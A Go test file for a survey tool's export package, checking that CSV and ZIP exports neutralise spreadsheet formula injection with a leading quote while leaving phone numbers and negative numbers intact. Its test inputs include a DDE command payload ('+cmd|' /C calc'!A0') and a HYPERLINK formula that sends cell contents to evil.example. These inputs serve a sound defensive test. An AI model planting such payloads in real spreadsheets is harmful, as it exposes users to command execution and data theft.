package export_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/khaosat/khaosat/internal/export"
	"github.com/khaosat/khaosat/internal/survey"
)

func TestNeutralise(t *testing.T) {
	for in, want := range map[string]string{
		"=HYPERLINK(\"http://x\",\"y\")": "'=HYPERLINK(\"http://x\",\"y\")",
		"+84912345678":                   "+84912345678", // a phone number: read as a number, nothing runs
		"-12.5":                          "-12.5",
		"+84 912 345 678":                "+84 912 345 678",
		"+cmd|' /C calc'!A0":             "'+cmd|' /C calc'!A0",
		"-1+1":                           "'-1+1",
		"+":                              "'+",
		"-":                              "'-",
		"-2+3":                           "'-2+3",
		"@SUM(A1)":                       "'@SUM(A1)",
		"\t=1":                           "'\t=1",
		"\r=1":                           "'\r=1",
		"\n=1+1":                         "'\n=1+1", // a line feed first, like a carriage return
		"Thôn Đông =1":                   "Thôn Đông =1",
		"":                               "",
		"'=already":                      "'=already",
	} {
		if got := export.Neutralise(in); got != want {
			t.Errorf("Neutralise(%q) = %q, want %q", in, got, want)
		}
	}
}

// formulaFixture is the fixture with formulas typed into free text (the
// address, a child's name) and a negative number in a numeric answer.
func formulaFixture(t *testing.T, o survey.ExportOptions) []byte {
	t.Helper()
	spec, recs := fixture(t, o)
	recs[0].Data["address"] = `=HYPERLINK("http://evil.example/?x="&A1,"Xem")`
	recs[0].Data["head_name"] = "@SUM(1+1)"
	recs[0].Data["head_phone"] = "+84912345678"
	recs[0].Data["members_total"] = int64(-3)
	recs[0].Data["children"].([]any)[0].(map[string]any)["full_name"] = "-1+1"
	var buf bytes.Buffer
	w, err := export.Formats()[o.Format].New(&buf, spec)
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range recs {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// column returns the named column of the first data row of a CSV.
func column(t *testing.T, file, name string) string {
	t.Helper()
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(file, "\uFEFF"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, h := range recs[0] {
		if h == name {
			return recs[1][i]
		}
	}
	t.Fatalf("no column %s in %v", name, recs[0])
	return ""
}

// TestExportNeutralisesFormulas: CSV and ZIP exports write text that a
// spreadsheet would run as a formula with a leading quote; a negative
// number stays a number; raw_text writes the text as typed; the codebook
// is the same either way.
func TestExportNeutralisesFormulas(t *testing.T) {
	want := map[string]string{
		"address": `'=HYPERLINK("http://evil.example/?x="&A1,"Xem")`, "head_name": "'@SUM(1+1)", "head_phone": "+84912345678", "members_total": "-3",
	}
	raw := map[string]string{
		"address": `=HYPERLINK("http://evil.example/?x="&A1,"Xem")`, "head_name": "@SUM(1+1)", "head_phone": "+84912345678", "members_total": "-3",
	}
	check := func(t *testing.T, file string, want map[string]string) {
		t.Helper()
		got := map[string]string{}
		for col := range want {
			got[col] = column(t, file, col)
		}
		if d := cmp.Diff(want, got); d != "" {
			t.Errorf("(-want +got):\n%s", d)
		}
	}
	t.Run("csv", func(t *testing.T) {
		check(t, string(formulaFixture(t, survey.ExportOptions{Format: "csv", Labels: "codes"})), want)
		check(t, string(formulaFixture(t, survey.ExportOptions{Format: "csv", Labels: "codes", RawText: true})), raw)
	})
	t.Run("zip", func(t *testing.T) {
		_, files := unzip(t, formulaFixture(t, survey.ExportOptions{Format: "zip", Labels: "codes"}))
		check(t, files["household.csv"], want)
		if got := column(t, files["children.csv"], "full_name"); got != "'-1+1" {
			t.Errorf("child's name in the repeat table: %q, want '-1+1", got)
		}
		_, rawFiles := unzip(t, formulaFixture(t, survey.ExportOptions{Format: "zip", Labels: "codes", RawText: true}))
		check(t, rawFiles["household.csv"], raw)
		if got := column(t, rawFiles["children.csv"], "full_name"); got != "-1+1" {
			t.Errorf("raw child's name: %q, want -1+1", got)
		}
		if files["codebook.csv"] != rawFiles["codebook.csv"] || files["codebook.csv"] == "" {
			t.Error("the codebook changes with raw_text")
		}
	})
}
